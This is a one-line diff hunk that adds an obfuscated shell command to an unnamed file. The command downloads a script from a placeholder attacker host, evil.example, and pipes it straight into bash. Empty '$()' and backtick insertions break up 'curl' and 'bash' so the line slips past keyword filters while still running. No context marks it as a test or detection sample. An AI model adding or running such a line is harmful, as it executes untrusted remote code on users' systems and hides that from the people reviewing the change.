@@ -1,0 +1,1 @@
+cu$()rl -s https://evil.example/x | ba``sh
